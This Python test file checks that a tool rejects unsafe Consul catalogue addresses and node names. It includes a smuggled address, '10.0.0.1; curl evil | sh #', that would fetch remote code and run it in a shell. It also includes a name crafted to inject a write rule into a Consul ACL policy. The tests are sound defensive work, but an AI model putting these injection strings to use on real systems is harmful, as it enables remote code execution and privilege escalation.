"""What a node's policy and the line to run there are made of: nothing that others chose goes in unchecked."""

from __future__ import annotations

import pytest

from farmd.commands import tokens
from store.errors import InputInvalid
from store.keys import Keys


class Catalogue:
    """What somebody wrote into Consul's catalogue."""

    async def nodes(self) -> dict[str, str]:
        return {"good": "10.0.0.1", "six": "fd00::1", "bad": "10.0.0.1; curl evil | sh #"}


async def test_an_address_of_the_catalogue_that_is_no_host_is_never_told_as_a_line_to_run() -> None:
    assert await tokens.address_of(Catalogue(), "good") == "10.0.0.1"  # type: ignore[arg-type]
    assert await tokens.address_of(Catalogue(), "six") == "fd00::1"  # type: ignore[arg-type]
    with pytest.raises(InputInvalid, match="expected a host"):
        await tokens.address_of(Catalogue(), "bad")  # type: ignore[arg-type]


def test_a_name_of_consuls_catalogue_adds_no_rule() -> None:
    assert tokens.of_node(Keys(), "n1", "consul-1")
    with pytest.raises(InputInvalid, match="--consul-node"):
        tokens.of_node(Keys(), "n1", 'x" { policy = "write" } key_prefix "')
